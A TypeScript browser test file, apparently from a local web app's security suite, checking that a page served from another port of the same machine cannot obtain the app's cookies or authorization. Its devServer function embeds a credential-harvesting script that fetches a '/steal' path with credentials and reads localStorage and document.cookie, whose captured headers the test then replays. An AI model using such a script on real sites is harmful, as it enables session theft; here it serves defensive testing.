import { createServer, type IncomingHttpHeaders } from 'node:http';
import { describe, expect, it, onTestFinished } from 'vitest';
import { Client } from '../server/window.ts';
import { noBrowser } from './browser.ts';
import { aWindow, useBrowser } from './visit.ts';

/** What an agent may start: a web server on another port of this machine, which a person then looks at. */
async function devServer(): Promise<{ url: string; heard: IncomingHttpHeaders[] }> {
  const heard: IncomingHttpHeaders[] = [];
  const server = createServer((request, response) => {
    heard.push(request.headers);
    response.setHeader('content-type', 'text/html');
    // Its page asks for more of its own, also under every other name of this machine.
    const { port } = server.address() as { port: number };
    response.end(
      request.url === '/'
        ? `<script type="module">
            for (const host of ['127.0.0.1', 'localhost', 'assay.localhost'])
              await fetch('http://' + host + ':${port}/steal', { credentials: 'include', mode: 'no-cors' }).catch(() => 0);
            document.title = 'done ' + JSON.stringify({ ...localStorage }) + document.cookie;
          </script>`
        : '',
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}/`, heard };
}

describe.skipIf(noBrowser !== null)(`C10 another port of this machine ${noBrowser ?? ''}`, () => {
  const browser = useBrowser();

  it('X9.2 gets no credential of the window, although it is visited in the same browser', async () => {
    const { server } = await aWindow();
    const { page } = await browser.open(server.newLink());
    await page.getByRole('heading', { level: 1 }).waitFor();
    const dev = await devServer();
    const other = await page.context().newPage();
    await other.goto(dev.url);
    await other.waitForFunction(`document.title.startsWith('done')`);
    expect(dev.heard.length).toBeGreaterThan(1);
    // The attack: everything received is sent to the window. A cookie of 127.0.0.1 would be in it, and would be enough.
    for (const { cookie = '', authorization = '' } of dev.heard) {
      const { status } = await new Client(server.port).raw('/api/session', { headers: { cookie, authorization } });
      expect(status).toBe(401);
    }
    for (const headers of dev.heard) expect([headers.cookie, headers.authorization]).toEqual([undefined, undefined]);
    expect(await other.title()).toBe('done {}');
    expect(await page.context().cookies()).toEqual([]);
    // The person's own page is still let in.
    await page.reload();
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.getByText('Open the link from your terminal').count()).toBe(0);
  });
});
